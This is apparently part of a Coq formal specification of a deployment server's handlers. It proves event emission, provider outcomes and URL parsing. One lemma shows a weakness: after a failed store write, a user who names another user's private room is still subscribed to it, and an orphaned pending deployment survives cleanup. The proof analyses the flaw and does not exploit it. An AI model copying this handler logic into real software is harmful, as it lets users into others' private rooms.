  project_with_includes (sd_projectId data) (user_id u) (db w) = Some (p, files, room) ->
  oracle w = Fine so1 se1 :: Fine so2 se2 :: Fault so se m :: o ->
  let w' := exec_world (start_deployment jwt socket data) w in
  eval_world (start_deployment jwt socket data) w = Ok None /\
  emitted (start_deployment jwt socket data) w =
    [deployment_error socket "Failed to start deployment"] /\
  db w' = db w /\
  socket ∈ subscribers (adapter w') (sd_roomId data) /\
  activeDeployments w' !! next_uuid w = Some (entered w) /\
  forall now,
    activeDeployments (exec_world cleanupOldDeployments (WorldOps.set_clock now w'))
      !! next_uuid w = Some (entered w).
Proof.
  intros Hjwt Hu Hq Ho w'. subst w'.
  destruct w as [d ad act ide ob co cl o' us sp sw]. mred_in Hu. mred_in Hq. mred_in Ho.
  subst o'. unfold deployment_error, entered, next_uuid, cleanupOldDeployments.
  destruct us as [|u0 us];
    dred; rewrite Hjwt; dred; rewrite Hu; dred; rewrite Hq; dred; tidy;
    (split; [reflexivity|]); (split; [reflexivity|]); (split; [reflexivity|]);
    (split; [rewrite BridgeMoreSpec.subscribers_insert;
             apply elem_of_union_l, elem_of_singleton; reflexivity|]);
    (split; [apply lookup_insert_eq|]);
    intros now; rewrite lookup_kept, lookup_insert_eq; reflexivity.
Qed.

(** Ann names r2, Eve's private room, in her request for p1; the store
    fails on the row. *)
Lemma start_deployment_orphan_witness :
  "s-ann" ∈ subscribers
     (adapter (exec_world (start_deployment Fixture.jwt_verify "s-ann" ann_names_r2)
                 create_fails)) "r2" /\
  dep_status <$> activeDeployments
     (exec_world cleanupOldDeployments
        (three_days_on (exec_world (start_deployment Fixture.jwt_verify "s-ann" ann_names_r2)
                          create_fails))) !! "id-1" = Some pending.
Proof.
  destruct (start_deployment_orphan Fixture.jwt_verify "s-ann" ann_names_r2 create_fails
              "ann" Fixture.ann
              {| project_id := "p1"; project_name := "site"; project_roomId := "r1" |}
              (db_files Fixture.store)
              (Some {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
                       room_isPublic := true |})
              "" "" "" "" "" "" "store down" [] eq_refl eq_refl eq_refl eq_refl)
    as (_ & _ & _ & H4 & _ & H6).
  split; [exact H4|]. unfold three_days_on.
  replace (clock (exec_world (start_deployment Fixture.jwt_verify "s-ann" ann_names_r2)
                    create_fails)) with 1000%Z by (vm_compute; reflexivity).
  rewrite H6. reflexivity.
Defined.

Lemma statuses_of_snoc2 id l s1 s2 :
  statuses_of id (l ++ [(id, s1); (id, s2)]) = statuses_of id l ++ [s1; s2].
Proof.
  unfold statuses_of. rewrite List.filter_app. simpl. rewrite String.eqb_refl.
  by rewrite fmap_app.
Qed.

(** X30: start-deployment from a caller with access to the project, the
    store calls going through: the row of the deployment is stored as
    PENDING, the caller is sent deployment-started with the deployment
    as it was entered, pending, the others of the room named are told,
    and the task is begun at once: by the time the handler returns the
    deployment is building at 10 and the whole room has had the first
    progress event. *)
Theorem start_deployment_started jwt socket data w uid u p files room :
  jwt (sd_token data) = Some uid ->
  Store.user_findUnique uid (db w) = Some u ->
  project_with_includes (sd_projectId data) (user_id u) (db w) = Some (p, files, room) ->
  calls_fine 3 (oracle w) = true ->
  let w' := exec_world (start_deployment jwt socket data) w in
  let id := next_uuid w in
  eval_world (start_deployment jwt socket data) w =
    Ok (Some (started_ctx data u p files room w, AtMkdir)) /\
  db_deployments (db w') = db_deployments (db w) ++ [pending_row data u p w] /\
  em_event <$> emitted (start_deployment jwt socket data) w =
    [ EvDeploymentStarted id (entered w);
      EvTeamDeploymentStarted id u (provider_name (provider (sd_config data))) (clock w);
      EvDeploymentProgress id building 10 "Preparing project files..." (clock w) ] /\
  em_target <$> emitted (start_deployment jwt socket data) w =
    [ ToSender; ToRoomOthers (sd_roomId data); ToRoom (sd_roomId data) ] /\
  (exists d, activeDeployments w' !! id = Some d /\
             dep_status d = building /\ dep_progress d = 10%Z) /\
  writes_of id w' = writes_of id w ++ [pending; building].
Proof.
  intros Hjwt Hu Hq Hf w' id. subst w' id.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hu. mred_in Hq. mred_in Hf.
  unfold started_ctx, pending_row, entered, next_uuid, writes_of.
  destruct us as [|u0 us];
    destruct o as [|[so se|so se m] [|[so1 se1|so1 se1 m1] [|[so2 se2|so2 se2 m2] o]]];
    try discriminate Hf;
    dred; rewrite Hjwt; dred; rewrite Hu; dred; rewrite Hq; dred;
    rewrite ?lookup_insert_eq; dred; tidy;
    cbn [dep_status c_deploymentId]; rewrite ?statuses_of_snoc2;
    (split; [reflexivity|]); (split; [reflexivity|]); (split; [reflexivity|]);
    (split; [reflexivity|]); (split; [|reflexivity]);
    eexists; (split; [rewrite !lookup_alter_eq, lookup_insert_eq; reflexivity|]);
    split; reflexivity.
Qed.

Lemma start_deployment_started_witness :
  em_target <$> emitted (start_deployment Fixture.jwt_verify "s-ann" start_p1) Fixture.world =
    [ ToSender; ToRoomOthers "r1"; ToRoom "r1" ] /\
  dr_status <$> db_deployments
     (db (exec_world (start_deployment Fixture.jwt_verify "s-ann" start_p1) Fixture.world)) =
    ["PENDING"].
Proof.
  destruct (start_deployment_started Fixture.jwt_verify "s-ann" start_p1 Fixture.world
              "ann" Fixture.ann
              {| project_id := "p1"; project_name := "site"; project_roomId := "r1" |}
              (db_files Fixture.store)
              (Some {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
                       room_isPublic := true |})
              eq_refl eq_refl eq_refl eq_refl) as (_ & H2 & _ & H4 & _).
  split; [exact H4|]. rewrite H2. reflexivity.
Defined.

(** *** The providers *)

Lemma failed_lookup (act : gmap string DeploymentStatus) id d message now :
  act !! id = Some d ->
  alter (push_log ("[ERROR] " +:+ message)) id
    (alter (with_endTime now) id
       (alter (with_error message) id (alter (with_status failed) id act))) !! id =
    Some (failed_with message now d).
Proof. intros H. rewrite !lookup_alter_eq, H. reflexivity. Qed.

(** X26: a deployment to docker never succeeds.  When its task reaches
    the provider, no image is built, the task ends, and the deployment
    is failed with an end time and the error in its log; the error is
    'project is not defined' whenever the write of the Dockerfile went
    through. *)
Theorem docker_never_succeeds ctx w d :
  provider (c_config ctx) = docker ->
  activeDeployments w !! c_deploymentId ctx = Some d ->
  let w' := exec_world (resume ctx AtProvider) w in
  eval_world (resume ctx AtProvider) w = Ok Finished /\
  spawned w' = spawned w /\
  (exists message,
     activeDeployments w' !! c_deploymentId ctx = Some (failed_with message (clock w) d) /\
     (dockerfile_written w = true -> message = "project is not defined")).
Proof.
  intros Hp Hd w'. subst w'.
  destruct w as [dd ad act ide ob co cl o us sp sw]. dred_in Hd.
  unfold dockerfile_written. dred. rewrite Hp. dred.
  destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] [|[so2 se2|so2 se2 m2] o]]];
    dred; rewrite ?lookup_alter_eq, ?Hd; dred;
    try destruct (existsb _ (db_deployments dd)); dred;
    (split; [reflexivity|]); (split; [reflexivity|]);
    eexists; (split; [first [apply failed_lookup; exact Hd | reflexivity]|]);
    intros H; try reflexivity; discriminate H.
Qed.

Lemma docker_never_succeeds_witness :
  dep_error <$> activeDeployments
     (exec_world (resume (with_provider docker ann_ctx) AtProvider) building_world)
     !! "id-1" = Some (Some "project is not defined").
Proof.
  destruct (docker_never_succeeds (with_provider docker ann_ctx) building_world
              {| dep_id := "id-1"; dep_status := building; dep_progress := 10;
                 dep_logs := ["[1001] Preparing project files..."];
                 dep_url := None; dep_error := None; dep_startTime := 1000;
                 dep_endTime := None |} eq_refl)
    as (_ & _ & message & Hm & He).
  - vm_compute. reflexivity.
  - cbn [c_deploymentId with_provider ann_ctx] in Hm. rewrite Hm.
    rewrite (He eq_refl). reflexivity.
Defined.

(** X27: a deployment to github-pages deploys nothing: when its task
    reaches the provider no process is run and nothing is awaited, the
    address is made of the names of the room and of the project, and the
    deployment is set to success with that address and an end time. *)
Theorem github_pages_placeholder ctx w d r :
  provider (c_config ctx) = github_pages ->
  c_room ctx = Some r ->
  activeDeployments w !! c_deploymentId ctx = Some d ->
  let w' := exec_world (resume ctx AtProvider) w in
  let url := pages_url r (c_project ctx) in
  eval_world (resume ctx AtProvider) w = Ok (AtRecord url) /\
  spawned w' = spawned w /\ oracle w' = oracle w /\
  (exists d', activeDeployments w' !! c_deploymentId ctx = Some d' /\
     dep_status d' = success /\ dep_progress d' = 100%Z /\ dep_url d' = Some url /\
     dep_endTime d' = Some (clock w)) /\
  em_event <$> emitted (resume ctx AtProvider) w =
    [EvDeploymentProgress (c_deploymentId ctx) success 100
       ("Deployment successful! URL: " +:+ url) (clock w)].
Proof.
  intros Hp Hr Hd w' url. subst w' url.
  destruct w as [dd ad act ide ob co cl o us sp sw]. dred_in Hd.
  unfold pages_url. dred. rewrite Hp. dred. rewrite Hr. tidy. cbn [default fmap option_fmap
    option_map].
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  split; [|reflexivity].
  eexists. split; [rewrite !lookup_alter_eq, Hd; reflexivity|].
  repeat split; reflexivity.
Qed.

Lemma github_pages_placeholder_witness :
  eval_world (resume ann_ctx AtProvider) building_world =
    Ok (AtRecord "https://lab.github.io/site").
Proof.
  apply (github_pages_placeholder ann_ctx building_world
           {| dep_id := "id-1"; dep_status := building; dep_progress := 10;
              dep_logs := ["[1001] Preparing project files..."];
              dep_url := None; dep_error := None; dep_startTime := 1000;
              dep_endTime := None |}
           {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
              room_isPublic := true |} eq_refl eq_refl).
  vm_compute. reflexivity.
Defined.

(** X28: a provider that is not implemented, aws or heroku, is turned
    down only once the build has run: the task resumed at the build
    command runs it, sets the deployment to deploying, and then fails it
    with the message of the provider. *)
Theorem unimplemented_provider ctx w d :
  implemented (provider (c_config ctx)) = false ->
  activeDeployments w !! c_deploymentId ctx = Some d ->
  next_fault w = None ->
  let w' := exec_world (resume ctx AtBuild) w in
  eval_world (resume ctx AtBuild) w = Ok Finished /\
  spawned w' = spawned w ++ [ {| sp_command := default "" (buildCommand (c_config ctx));
                                 sp_cwd := tempDir ctx |} ] /\
  writes_of (c_deploymentId ctx) w' = writes_of (c_deploymentId ctx) w ++ [deploying; failed] /\
  dep_error <$> activeDeployments w' !! c_deploymentId ctx =
    Some (Some (not_implemented (provider (c_config ctx)))).
Proof.
  intros Hp Hd Hf w'. subst w'. unfold next_fault in Hf.
  destruct w as [dd ad act ide ob co cl o us sp sw]. dred_in Hd. dred_in Hf.
  unfold not_implemented, writes_of. dred.
  destruct (provider (c_config ctx)) eqn:Ep; try discriminate Hp;
    destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf; dred;
    rewrite ?String.eqb_refl; try destruct (String.eqb se ""); dred;
    rewrite ?lookup_alter_eq, ?Hd; dred;
    try destruct (existsb _ (db_deployments dd)); dred;
    rewrite ?statuses_of_snoc, <- ?app_assoc, ?lookup_alter_eq, ?Hd;
    repeat split; reflexivity.
Qed.

Lemma unimplemented_provider_witness :
  sp_command <$> spawned
     (exec_world (resume (with_build "npm run build" (with_provider aws ann_ctx)) AtBuild)
                 building_world) = ["npm run build"] /\
  dep_error <$> activeDeployments
     (exec_world (resume (with_build "npm run build" (with_provider aws ann_ctx)) AtBuild)
                 building_world) !! "id-1" =
    Some (Some "Deployment provider aws not yet implemented").
Proof.
  destruct (unimplemented_provider (with_build "npm run build" (with_provider aws ann_ctx))
              building_world
              {| dep_id := "id-1"; dep_status := building; dep_progress := 10;
                 dep_logs := ["[1001] Preparing project files..."];
                 dep_url := None; dep_error := None; dep_startTime := 1000;
                 dep_endTime := None |} eq_refl)
    as (_ & H2 & _ & H4).
  - vm_compute. reflexivity.
  - reflexivity.
  - split; [rewrite H2; reflexivity|exact H4].
Defined.

(** *** The address read off the output of a provider *)

Lemma space_ahead_head c r : space_ahead (c :: r) = false -> is_space c = false.
Proof. cbn [space_ahead]. intros H. by apply orb_false_iff in H as [H _]. Qed.

Lemma space_ahead_start a t :
  space_ahead (a :: t) = true ->
  is_space a = true \/ In (nat_of_ascii a) [194; 225; 226; 227; 239]%nat.
Proof.
  intros H. cbn [space_ahead] in H. destruct (is_space a); [by left|]. right.
  cbn [orb] in H.
  destruct t as [|b [|c t]]; try discriminate H.
  - rewrite orb_false_r in H. apply andb_true_iff in H as [H _].
    apply Nat.eqb_eq in H. rewrite H. cbn. tauto.
  - repeat match type of H with
           | (_ || _)%bool = true => apply orb_true_iff in H as [H|H]
           end;
      repeat match type of H with
             | (_ && _)%bool = true => apply andb_true_iff in H as [H _]
             end;
      apply Nat.eqb_eq in H; rewrite H; cbn; tauto.
Qed.

(** What begins a list begins every list that it begins. *)
Lemma space_ahead_app p q : space_ahead p = true -> space_ahead (p ++ q) = true.
Proof.
  destruct p as [|a [|b [|c p]]]; [done| | |by intros H].
  - cbn. rewrite orb_false_r. intros H. rewrite H. reflexivity.
  - cbn. rewrite !orb_false_r. intros H.
    apply orb_true_iff in H as [H|H]; rewrite H; [reflexivity|].
    cbn. destruct q; by rewrite ?orb_true_r.
Qed.

Lemma take_url_prefix l : exists post, l = take_url l ++ post.
Proof.
  induction l as [|c l [post Hl]]; [by exists []|]. cbn [take_url].
  destruct (space_ahead (c :: l)); [by exists (c :: l)|].
  exists post. cbn [app]. by f_equal.
Qed.

Lemma take_url_spaceless (l : list ascii) : spaceless (take_url l) = true.
Proof.
  induction l as [|c l IH]; [done|]. cbn [take_url].
  destruct (space_ahead (c :: l)) eqn:E; [done|].
  cbn [spaceless]. rewrite IH, andb_true_r. apply negb_true_iff.
  destruct (space_ahead (c :: take_url l)) eqn:E'; [|done].
  destruct (take_url_prefix l) as [post Hl].
  pose proof (space_ahead_app (c :: take_url l) post E') as H.
  cbn [app] in H. rewrite <- Hl in H. congruence.
Qed.

Lemma spaceless_cons a t :
  is_space a = false ->
  ~ In (nat_of_ascii a) [194; 225; 226; 227; 239]%nat ->
  spaceless t = true -> spaceless (a :: t) = true.
Proof.
  intros Ha Hn Ht. cbn [spaceless]. rewrite Ht, andb_true_r. apply negb_true_iff.
  destruct (space_ahead (a :: t)) eqn:E; [|done].
  apply space_ahead_start in E as [E|E]; [congruence|done].
Qed.

Lemma spaceless_https body :
  spaceless body = true -> spaceless (list_ascii_of_string "https://" ++ body) = true.
Proof.
  intros H. cbn [list_ascii_of_string app].
  repeat (apply spaceless_cons; [reflexivity | cbn; intuition discriminate | ]).
  exact H.
Qed.

Lemma take_url_cut (l : list ascii) :
  exists post, l = take_url l ++ post /\ (post = [] \/ space_ahead post = true).
Proof.
  induction l as [|c l (post & Hl & Hpost)]; [exists []; by split; [|left]|].
  cbn [take_url]. destruct (space_ahead (c :: l)) eqn:E.
  - exists (c :: l). split; [done|]. by right.
  - exists post. split; [cbn [app]; f_equal; exact Hl|exact Hpost].
Qed.

Lemma find_url_shape lead l u :
  find_url lead l = Some u ->
  exists body, u = list_ascii_of_string "https://" ++ body /\ body <> [] /\
               spaceless body = true.
Proof.
  induction l as [|c l IH]; [done|].
  cbn [find_url].
  destruct (strip_prefix _ (c :: l)) as [rest|]; [|exact IH].
  pose proof (take_url_spaceless rest) as Hall.
  destruct (take_url rest) as [|b body]; [exact IH|].
  intros [= <-]. exists (b :: body). done.
Qed.

Lemma strip_prefix_cut pre l rest :
  strip_prefix pre l = Some rest -> l = pre ++ rest.
Proof.
  revert l. induction pre as [|a pre IH]; intros l; cbn.
  - by intros [= ->].
  - destruct l as [|b l]; [done|]. destruct (Ascii.eqb a b) eqn:E; [|done].
    apply Ascii.eqb_eq in E as ->. intros H. by rewrite (IH _ H).
Qed.

Lemma find_url_cut lead l u :
  find_url lead l = Some u ->
  exists pre post, l = pre ++ lead ++ u ++ post /\
    (post = [] \/ space_ahead post = true).
Proof.
  induction l as [|c l IH]; [done|].
  cbn [find_url].
  assert (Hrec : find_url lead l = Some u ->
            exists pre post, c :: l = pre ++ lead ++ u ++ post /\
              (post = [] \/ space_ahead post = true)).
  { intros H. destruct (IH H) as (pre & post & -> & Hpost).
    exists (c :: pre), post. by split. }
  destruct (strip_prefix _ (c :: l)) as [rest|] eqn:Es; [|exact Hrec].
  destruct (take_url_cut rest) as (post & Hrest & Hpost).
  destruct (take_url rest) as [|b body]; [exact Hrec|].
  intros [= <-]. apply strip_prefix_cut in Es. exists [], post. split; [|exact Hpost].
  rewrite Es, Hrest. cbn [app]. by rewrite <- !app_assoc.
Qed.

Lemma string_of_list_ascii_app a b :
  string_of_list_ascii (a ++ b) = string_of_list_ascii a +:+ string_of_list_ascii b.
Proof. induction a as [|c a IH]; [done|]. cbn. by rewrite IH. Qed.

Lemma url_match_shape lead stdout url :
  url_match lead stdout = Some url ->
  String.prefix "https://" url = true /\ no_space url = true /\
  (8 < String.length url)%nat /\
  exists pre post,
    stdout = pre +:+ lead +:+ url +:+ post /\
    (post = "" \/ space_ahead (list_ascii_of_string post) = true).
Proof.
  unfold url_match. destruct (find_url _ _) as [u|] eqn:E; [|done].
  intros [= <-]. pose proof (find_url_cut _ _ _ E) as (pre & post & Hcut & Hpost).
  apply find_url_shape in E as (body & -> & Hne & Hall).
  split; [|split; [|split]].
  - cbn. repeat (destruct (Ascii.ascii_dec _ _); [|done]).
    by destruct (string_of_list_ascii body).
  - unfold no_space. rewrite list_ascii_of_string_of_list_ascii.
    by apply spaceless_https.
  - destruct body as [|b body]; [done|]. cbn. lia.
  - exists (string_of_list_ascii pre), (string_of_list_ascii post). split.
    + rewrite <- (string_of_list_ascii_of_string stdout), Hcut.
      rewrite !string_of_list_ascii_app. by rewrite string_of_list_ascii_of_string.
    + destruct Hpost as [->|Hpost]; [by left|]. right.
      by rewrite list_ascii_of_string_of_list_ascii.
Qed.

(** X29: the address deployToVercel returns is the address of the
    provider with the identifier of the deployment, or it is read off
    the output of the last command awaited, the deploy command; and the
    same for deployToNetlify, with its own address and after the words
    'Live Draft URL: '.  An address read off an output begins with
    https://, has at least one character after it and no white space in
    it, stands in the output right after the words looked for, and is
    followed there by a white space or by the end of the output. *)
Theorem provider_url_https ctx w url :
  (eval_world (deployToVercel ctx) w = Ok url ->
     url = "https://vercel.app/deployment/" +:+ c_deploymentId ctx \/
     exists before so se,
       oracle w = before ++ Fine so se :: oracle (exec_world (deployToVercel ctx) w) /\
       url_match "" so = Some url) /\
  (eval_world (deployToNetlify ctx) w = Ok url ->
     url = "https://netlify.app/deployment/" +:+ c_deploymentId ctx \/
     exists before so se,
       oracle w = before ++ Fine so se :: oracle (exec_world (deployToNetlify ctx) w) /\
       url_match "Live Draft URL: " so = Some url) /\
  (forall lead stdout,
     url_match lead stdout = Some url ->
     String.prefix "https://" url = true /\ no_space url = true /\
     (8 < String.length url)%nat /\
     exists pre post,
       stdout = pre +:+ lead +:+ url +:+ post /\
       (post = "" \/ space_ahead (list_ascii_of_string post) = true)).
Proof.
  destruct w as [dd ad act ide ob co cl o us sp sw].
  split; [|split]; [| |intros lead stdout; apply url_match_shape].
  all: intros H; dred_in H; dred;
    destruct o as [|[so se|so se m] [|[so1 se1|so1 se1 m1] [|[so2 se2|so2 se2 m2]
                   [|[so3 se3|so3 se3 m3] o]]]];
    dred_in H; dred; try discriminate H; injection H as <-;
    first
      [ match goal with
        | |- context [default ?fb (url_match ?lead ?so)] =>
            destruct (url_match lead so) as [u|] eqn:E; cbn [default];
            [ right;
              first [ solve [exists []; do 2 eexists; split; [reflexivity|exact E]]
                    | solve [eexists [_]; do 2 eexists; split; [reflexivity|exact E]]
                    | solve [eexists [_; _]; do 2 eexists; split; [reflexivity|exact E]]
                    | solve [eexists [_; _; _]; do 2 eexists;
                             split; [reflexivity|exact E]] ]
            | left; reflexivity ]
        end
      | left; reflexivity ].
Qed.

(** The command line tool of Vercel prints the address of the site. *)
Lemma provider_url_https_witness :
  eval_world (deployToVercel ann_ctx) vercel_answers = Ok "https://site-abc.vercel.app" /\
  String.prefix "https://" "https://site-abc.vercel.app" = true /\
  exists pre post,
    "Production: https://site-abc.vercel.app [2s]" =
      pre +:+ "" +:+ "https://site-abc.vercel.app" +:+ post.
Proof.
  assert (E : eval_world (deployToVercel ann_ctx) vercel_answers =
              Ok "https://site-abc.vercel.app") by (vm_compute; reflexivity).
  split; [exact E|].
  destruct (provider_url_https ann_ctx vercel_answers "https://site-abc.vercel.app")
    as (_ & _ & H).
  destruct (H "" "Production: https://site-abc.vercel.app [2s]" eq_refl)
    as (Hp & _ & _ & pre & post & Hcut & _).
  split; [exact Hp|]. by exists pre, post.
Defined.

End DeploymentMoreSpec.
